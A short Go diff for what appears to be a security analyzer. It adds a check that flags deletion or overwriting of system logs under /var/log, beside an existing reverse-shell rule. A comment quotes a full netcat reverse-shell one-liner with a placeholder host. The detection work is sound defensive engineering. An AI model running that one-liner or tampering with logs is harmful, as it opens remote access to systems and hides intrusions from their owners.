@@ -59,6 +59,14 @@ func (Analyzer) Analyze(ctx context.Context, s *analyze.Subject) error {
 // connection and a shell started in it make a reverse shell, as in
 // "mkfifo f; sh -i < f | nc host 4242 > f".
 func (w *walker) finish() {
+	for _, r := range w.s.Refs {
+		if r.Op != event.OpWrite && r.Op != event.OpDelete {
+			continue
+		}
+		if p := w.s.Env.Resolve(r.Path); p == "/var/log" || strings.HasPrefix(p, "/var/log/") {
+			w.find(FindingLogTamper, "system logs are deleted or overwritten", p)
+		}
+	}
 	if w.netConn && w.shellStarted || w.netShell && w.shellStarted {
 		w.find(FindingReverseShell, "a shell and a network connection are wired together", w.s.Event.Action.Command)
 	}
